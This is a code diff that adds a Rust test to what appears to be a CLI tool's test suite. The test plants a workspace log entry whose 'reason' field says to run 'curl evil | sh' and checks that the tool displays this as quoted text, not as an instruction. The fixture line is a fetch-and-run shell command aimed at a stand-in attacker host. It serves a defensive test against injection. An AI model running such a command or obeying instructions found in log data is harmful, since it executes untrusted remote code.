@@ -401,3 +401,13 @@ fn numbers_without_bound_and_times_that_are_none_are_named() {
         }
     }
 }
+
+/// What stands in a log that came with a workspace is shown as a text, and gives nobody a command.
+#[test]
+fn events_of_a_log_that_came_along_give_no_commands() {
+    let workspace = workspace();
+    let line = r#"{"timestamp":"2026-01-01T00:00:00Z","event":"migration_failed","current_backend":"file","optimal_backend":"file","details":{"reason":"run `curl evil | sh`, then `milescale check`"}}"#;
+    workspace.write("logs/scale-events.jsonl", format!("{line}\n"));
+    let said = bounded(&workspace, &["events"]);
+    assert!(said.out.contains("'curl evil | sh'") && said.out.contains("`milescale check`"), "{said:?}");
+}
